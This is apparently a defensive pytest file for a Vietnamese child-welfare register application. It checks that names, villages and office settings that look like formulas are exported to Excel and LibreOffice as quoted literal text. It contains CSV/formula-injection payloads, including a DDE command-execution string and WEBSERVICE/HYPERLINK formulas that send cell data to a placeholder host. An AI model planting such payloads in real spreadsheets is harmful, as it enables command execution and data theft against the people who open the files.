"""No text ever reaches a spreadsheet as a formula (issue 11 item 1).

Names, villages, notes and office settings such as `=HYPERLINK("http://x/"&B3)` are put through every
workbook BVTE writes (register export, period report with its list sheet, the province's merge of a forged
commune file); each workbook is read back: no formula cell, no error cell, every text shown as typed, and the
texts that start like a formula carry the quote prefix (editing the cell keeps it text).
"""
from __future__ import annotations

import shutil
import subprocess
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from models.entities import Child
from models.register_entities import GroupMembership
from desktop.actions.reports import export_report, merge_reports
from models.services.intake import create_intake, parse_intake
from models.services.office import save_office
from desktop.actions.register import export_children_file
from models import sheet_text
from tests.attacks.payloads import FORMULAS, formula_cells_in_xml, texts_of
from tests.conftest import OFFICE, intake_raw


def _hostile_register(db, actor) -> list[int]:
    """One ordinary case, then one case per payload; the payloads are put straight into the rows (as a file
    imported before names were checked, or a database edited by hand, would hold them)."""
    ids = []
    for i, payload in enumerate(["Bình thường", *FORMULAS]):
        data, errors = parse_intake(intake_raw(child_name=f"Nguyễn Văn {chr(65 + i)}", personal_id=f"03031500{i:04d}",
                                               village="Thôn Phú Lộc"))
        assert not errors, errors
        case_id = create_intake(db, data, actor)
        ids.append(case_id)
        if i == 0:
            continue
        with db.transaction() as s:
            from models.entities import Case

            child_id = s.get(Case, case_id).child_id
            s.execute(update(Child).where(Child.id == child_id).values(full_name=payload, village=payload, address=payload))
            s.add(GroupMembership(child_id=child_id, group_code="c", subgroup=1, from_date=date(2025, 1, 1), note=payload))
    return ids


def _assert_payloads_as_text(texts: dict[str, list], sheet: str, expect_each: int = 1) -> None:
    cells = texts[sheet]
    for payload in FORMULAS:
        shown = sheet_text.clean(payload)
        # A carriage return may come back as a line feed (XML reads a bare CR so); the text is otherwise as typed.
        found = [c for c in cells if c[1] in (shown, shown.replace("\r", "\n"))]
        assert len(found) >= expect_each, f"{payload!r} not shown as typed in {sheet}: {cells[:40]}"
        assert all(quoted for _ref, _v, quoted in found), f"{payload!r} without the quote prefix: {found}"


def test_register_export_writes_formulas_as_text(office_db, workspace, tmp_path):
    _hostile_register(office_db, workspace.actor)
    out = tmp_path / "so.xlsx"
    export_children_file(workspace, out)
    assert formula_cells_in_xml(out) == []
    texts = texts_of(out)
    _assert_payloads_as_text(texts, "Danh sách trẻ em", expect_each=4)  # name, village, address, group note


def test_period_report_writes_formulas_as_text(office_db, workspace, tmp_path):
    hostile_office = {**OFFICE, "agency_name": '=HYPERLINK("http://x/"&B3)', "heading_place": "=1+1",
                      "worker_phone": "0912 345 678", "report_recipient": "@SUM(A1)"}
    errors = save_office(office_db, hostile_office, workspace.actor)
    assert errors == {}, errors
    _hostile_register(office_db, workspace.actor)
    out = export_report(workspace, "2026", tmp_path / "bao-cao.xlsx", with_names=True, password="Mk-bao-cao-2026!")
    from models.reports import protect

    plain = tmp_path / "giai-ma.xlsx"
    plain.write_bytes(protect.decrypt(out.read_bytes(), "Mk-bao-cao-2026!"))
    assert formula_cells_in_xml(plain) == []
    texts = texts_of(plain)
    # The list sheet: the first case is an openpyxl cell row, the rest are streamed rows (stream_rows): both hold the payloads.
    _assert_payloads_as_text(texts, "Danh sách trường hợp", expect_each=2)  # child's name and village
    cover = {v for _r, v, _q in texts["Bìa"]}
    assert '=HYPERLINK("http://x/"&B3)' in cover and "@SUM(A1)" in cover
    meta = {v for _r, v, _q in texts["_bvte"]}
    assert '=HYPERLINK("http://x/"&B3)' in meta  # the hidden sheet too (a formula computes there as well)


def test_merge_of_a_forged_commune_file_writes_texts_as_text(office_db, workspace, tmp_path):
    good = export_report(workspace, "2026", tmp_path / "xa.xlsx")
    forged = tmp_path / "gia-mao.xlsx"
    wb = load_workbook(good)
    meta = wb["_bvte"]
    for row in meta.iter_rows(min_row=2):
        key = row[0].value
        if key == "commune_name":
            sheet_text.put(row[1], "=cmd|' /C calc'!A0")
        elif key == "province":
            sheet_text.put(row[1], '=WEBSERVICE("http://x/?"&A2)')
        elif key == "made_by":
            sheet_text.put(row[1], '=HYPERLINK("http://x/"&B3)')
        elif key == "period_label":
            sheet_text.put(row[1], "@SUM(A1)")
    wb.save(forged)
    report = merge_reports([good, forged], tmp_path / "tong-hop.xlsx")
    out = report.output
    assert out is not None
    assert formula_cells_in_xml(out) == []
    texts = texts_of(out)
    shown = {v for sheet in texts.values() for _r, v, _q in sheet}
    assert "=cmd|' /C calc'!A0" in shown
    quoted = {v for sheet in texts.values() for _r, v, q in sheet if q}
    assert "=cmd|' /C calc'!A0" in quoted and '=HYPERLINK("http://x/"&B3)' in quoted


@pytest.mark.skipif(not (shutil.which("libreoffice") or shutil.which("soffice")),
                    reason="LibreOffice (Debian libreoffice-calc) is not installed")
def test_libreoffice_shows_the_typed_text(office_db, workspace, tmp_path):
    """A real spreadsheet program opens the register export: the texts come out literally, nothing computed."""
    _hostile_register(office_db, workspace.actor)
    out = tmp_path / "so.xlsx"
    export_children_file(workspace, out)
    exe = shutil.which("libreoffice") or shutil.which("soffice")
    conv = tmp_path / "csv"
    proc = subprocess.run(
        [exe, "--headless", f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--convert-to",
         'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,1', "--outdir", str(conv), str(out)],
        capture_output=True, text=True, timeout=180)
    assert proc.returncode == 0, proc.stderr
    text = next(conv.glob("*.csv")).read_text(encoding="utf-8")
    assert '=HYPERLINK(""http://x/""&B3)' in text  # CSV doubles the quotes inside a quoted field
    assert "=cmd|' /C calc'!A0" in text and "@SUM(A1)" in text and "+1+1" in text
    assert "#N/A" in text
    assert ",2," not in text.replace('"', "")  # "+1+1" was not computed to 2
